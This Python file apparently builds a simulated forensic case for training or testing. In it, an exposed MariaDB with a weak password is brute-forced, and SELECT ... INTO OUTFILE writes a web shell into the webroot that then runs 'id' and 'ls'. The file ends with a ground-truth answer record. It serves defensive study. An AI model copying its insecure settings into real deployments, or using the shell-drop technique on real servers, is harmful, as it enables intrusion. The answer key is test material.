"""MariaDB answers the whole network; its password is guessed, and it writes a page of the site."""

from __future__ import annotations

import socket
import threading
from pathlib import Path

import server
import services
import site_code
import traffic
from client import FIREFOX, Browser
from machine import SERVER, Bases, Machine, Truth

INTRUDER = "203.0.113.95"
ROOT = "/var/www/ledger"
SETTINGS = """bind-address = 0.0.0.0
skip-name-resolve
general_log = 1
general_log_file = /var/log/mysql/mysql.log
log_error = /var/log/mysql/error.log
performance_schema = off
innodb_buffer_pool_size = 16M
"""
FIRST = """create database ledger;
create table ledger.entry (id int, text varchar(80));
insert into ledger.entry values (1, 'Quay dues'), (2, 'Rope');
create user shop@'%' identified by 'shop123';
grant all on *.* to shop@'%';
"""
PAGE = """<?php
$db = new mysqli('127.0.0.1', 'shop', 'shop123', 'ledger');
foreach ($db->query('select text from entry where id = ' . (int) ($_GET['id'] ?? 1)) as $row) {
    echo htmlspecialchars($row['text']);
}
"""


def make(out: Path, bases: Bases) -> None:
    """Nginx; the general log was on, as somebody once looked for a mistake."""
    machine = server.other("ledger", bases.mariadb, out)
    site_code.plain_site(machine, ROOT)
    machine.write(f"{ROOT}/entry.php", PAGE, owner="www-data:www-data")
    machine.path(f"{ROOT}/exports").mkdir(mode=0o777)
    machine.path(f"{ROOT}/exports").chmod(0o777)
    services.nginx_site(machine, server.SITE, ROOT, pool="www2")
    services.pool(machine, "www2")
    server.start(machine)
    services.mariadb(machine, SETTINGS, FIRST)
    pages = (*site_code.PAGES, "/entry.php?id=1", "/entry.php?id=2")
    traffic.visitors(machine, server.SITE, pages, a_day=8)
    traffic.scanners(machine, server.SITE)
    for day in range(machine.days):
        machine.at(
            machine.on(day, 7, 20),
            lambda: ask(machine, "203.0.113.190", "root", "123456", "select 1"),
        )
    words = ("root", "123456", "shop", "admin", "password", "shop1", "shop12", "mysql")
    for number, word in enumerate(words):
        for user in ("root", "shop"):
            machine.at(
                machine.on(6, 5, 31, number * 2),
                lambda u=user, w=word: ask(machine, INTRUDER, u, w, "select 1"),
            )
    entered = machine.on(6, 5, 31, 40)
    machine.at(
        entered, lambda: ask(machine, INTRUDER, "shop", "shop123", "select @@version, user()")
    )
    shell = site_code.SHELL.replace("\n", " ").replace("'", "''")
    drop = f"select '{shell}' into outfile '{ROOT}/exports/total.php'"
    machine.at(machine.on(6, 5, 33, 2), lambda: ask(machine, INTRUDER, "shop", "shop123", drop))
    guest = Browser(INTRUDER, server.SITE, FIREFOX)
    machine.at(machine.on(6, 5, 33, 30), lambda: guest.ask("/exports/total.php?c=id"))
    machine.at(machine.on(7, 1, 3), lambda: guest.post("/exports/total.php", c="ls"))
    machine.live()
    if not machine.path(f"{ROOT}/exports/total.php").exists():
        raise SystemExit("the database wrote nothing")
    log = "/var/log/mysql/mysql.log"
    machine.end(
        Truth(
            "database-login",
            entered.isoformat(),
            INTRUDER,
            log,
            machine.line(log, f"shop@{INTRUDER}", "Connect"),
            accounts=["mysql"],
            sites=[ROOT],
            services=["mariadb", "nginx", "php-fpm"],
            untouched=["sshd", "cron"],
            notes="exports/total.php, by SELECT ... INTO OUTFILE",
        )
    )


def ask(machine: Machine, address: str, user: str, password: str, statement: str) -> None:
    """One visit with the database's client: it cannot choose its address, so a relay does."""
    door = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=_relay, args=(door, address), daemon=True).start()
    port = str(door.getsockname()[1])
    machine.run(
        *("mariadb", "--no-defaults", "-h", "127.0.0.1", "-P", port, "--protocol=tcp"),
        *(f"-u{user}", f"-p{password}", "-e", statement),
        status=None,
    )
    door.close()


def _relay(door: socket.socket, address: str) -> None:
    near, _ = door.accept()
    far = socket.create_connection((SERVER, 3306), timeout=10, source_address=(address, 0))
    threading.Thread(target=_pour, args=(far, near), daemon=True).start()
    _pour(near, far)


def _pour(source: socket.socket, target: socket.socket) -> None:
    try:
        while some := source.recv(65536):
            target.sendall(some)
        target.shutdown(socket.SHUT_WR)
    except OSError:
        return
